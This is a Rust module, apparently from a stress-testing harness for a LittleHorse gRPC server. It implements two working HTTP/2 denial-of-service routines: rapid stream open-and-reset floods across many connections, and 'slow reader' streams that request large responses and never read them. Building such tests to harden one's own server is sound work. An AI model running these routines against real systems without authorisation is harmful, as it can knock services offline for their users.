//! What only the frames of HTTP/2 show: calls that are reset at once, answers whose window is never opened.
use std::{sync::Arc, time::Duration};

use bytes::Bytes;
use h2::{Reason, client::SendRequest};
use http::Request;
use lh_proto::littlehorse::{RunWfRequest, VariableId, WfRun, WfRunId, WfSpec};
use prost::Message;
use tokio::{net::TcpStream, task::JoinSet};

use super::{Attack, Tally, work::LARGE_BYTES};
use crate::load::{
    connection::Connection,
    definitions::{INPUT, text, unique_name, wf_spec},
};

/// Pause before a new connection.
const PAUSE: Duration = Duration::from_millis(20);
/// Pause before an answer more is asked for, when there are many or one was refused.
const WAIT: Duration = Duration::from_millis(500);
/// Answers that each connection asks for and does not read.
const ANSWERS: usize = 64;

async fn connect(server: &str) -> Result<SendRequest<Bytes>, String> {
    let refused = |error: &dyn std::fmt::Display| format!("cannot connect to {server}: {error}");
    let stream = TcpStream::connect(server).await.map_err(|error| refused(&error))?;
    let (requests, connection) = h2::client::handshake(stream).await.map_err(|error| refused(&error))?;
    tokio::spawn(connection);
    Ok(requests)
}

fn request(server: &str, rpc: &str) -> Result<Request<()>, String> {
    Request::builder()
        .method("POST")
        .uri(format!("http://{server}/littlehorse.LittleHorse/{rpc}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .map_err(|error| error.to_string())
}

/// Opens and resets streams as fast as each connection lets it, and connects again when it was cut.
pub async fn resets(attack: &Attack, tally: &Arc<Tally>) -> Result<(), String> {
    let mut callers = JoinSet::new();
    for _ in 0..attack.count {
        let (server, tally) = (attack.server.clone(), tally.clone());
        callers.spawn(async move {
            loop {
                if let Ok(requests) = connect(&server).await {
                    tally.note("connections");
                    while reset_one(&requests, &server).await.is_some() {
                        tally.note("resets");
                        // Making a call never waits, so others would never have their turn.
                        tokio::task::yield_now().await;
                    }
                }
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    while callers.join_next().await.is_some() {}
    Ok(())
}

async fn reset_one(requests: &SendRequest<Bytes>, server: &str) -> Option<()> {
    let request = request(server, "RunWf").ok()?;
    let mut ready = requests.clone().ready().await.ok()?;
    let (_, mut body) = ready.send_request(request, false).ok()?;
    body.send_reset(Reason::CANCEL);
    Some(())
}

/// Asks for a large variable on many streams and reads none of the answers.
pub async fn slow_readers(attack: &Attack, tally: &Arc<Tally>) -> Result<(), String> {
    let run = large_run(&attack.server).await?;
    let variable = VariableId { wf_run_id: Some(run), thread_run_number: 0, name: INPUT.to_owned() }.encode_to_vec();
    let mut framed = vec![0];
    framed.extend_from_slice(&u32::try_from(variable.len()).unwrap_or_default().to_be_bytes());
    framed.extend_from_slice(&variable);
    let framed = Bytes::from(framed);
    let mut readers = JoinSet::new();
    for _ in 0..attack.count {
        let (server, framed, tally) = (attack.server.clone(), framed.clone(), tally.clone());
        readers.spawn(async move {
            loop {
                if let Ok(requests) = connect(&server).await {
                    tally.note("connections");
                    ask_and_not_read(&requests, &server, &framed, &tally).await;
                    tally.note("cut");
                }
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    while readers.join_next().await.is_some() {}
    Ok(())
}

/// Holds as many unread answers as it gets until the connection ends.
async fn ask_and_not_read(requests: &SendRequest<Bytes>, server: &str, framed: &Bytes, tally: &Tally) {
    let mut unread = Vec::new();
    loop {
        let (Ok(request), Ok(mut ready)) = (request(server, "GetVariable"), requests.clone().ready().await) else {
            return;
        };
        let Ok((response, mut body)) = ready.send_request(request, false) else { return };
        if body.send_data(framed.clone(), true).is_err() {
            return;
        }
        let Ok(response) = response.await else { return };
        let is_refused = response.headers().contains_key("grpc-status");
        if is_refused {
            tally.note("refused");
        } else {
            tally.note("unread answers");
            unread.push(response);
        }
        if is_refused || unread.len() >= ANSWERS {
            tokio::time::sleep(WAIT).await;
        }
    }
}

/// A run that has ended, with a variable of nearly a megabyte.
async fn large_run(server: &str) -> Result<WfRunId, String> {
    let connection = Connection::open(server).await?;
    let name = unique_name("large");
    let _: WfSpec = connection.ask("/littlehorse.LittleHorse/PutWfSpec", wf_spec(&name, "", 0, 1)).await?;
    let request = RunWfRequest {
        wf_spec_name: name,
        variables: [(INPUT.to_owned(), text("x".repeat(LARGE_BYTES)))].into(),
        ..RunWfRequest::default()
    };
    let run: WfRun = connection.ask("/littlehorse.LittleHorse/RunWf", request).await?;
    run.id.ok_or_else(|| "RunWf answered without an id".to_owned())
}
